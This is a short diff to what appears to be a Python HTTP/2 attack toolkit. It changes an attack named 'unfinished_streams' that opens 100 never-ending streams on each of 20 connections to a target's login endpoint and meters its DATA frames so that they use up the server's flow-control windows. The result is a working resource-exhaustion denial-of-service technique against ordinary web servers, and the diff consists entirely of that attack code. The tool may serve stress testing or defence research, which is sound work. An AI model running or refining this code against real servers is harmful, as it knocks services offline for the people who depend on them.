@@ -191,16 +191,20 @@ async def referenced_headers(target: Target) -> None:
 
 @attack("c")
 async def unfinished_streams(target: Target) -> None:
-    """100 streams on each of 10 connections with bodies that fill the server's windows and never end"""
+    """100 streams on each of 20 connections with bodies that use up the server's windows and never end"""
     block = http2.head(target, "POST", "/api/auth/login", ("content-type", "application/json"))
 
     async def work(connection: Connection) -> None:
         for number in range(100):
             stream = 2 * number + 1
             await connection.send(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block))
-            await connection.send(http2.frame(http2.DATA, 0, stream, b" " * 16_384) * 4)
+            for _ in range(4):
+                while connection.window < 8_192:
+                    await asyncio.sleep(0.02)
+                connection.window -= 8_192
+                await connection.send(http2.frame(http2.DATA, 0, stream, b" " * 8_192))
 
-    await session(target, 10, work)
+    await session(target, 20, work)
 
 
 @attack("i")
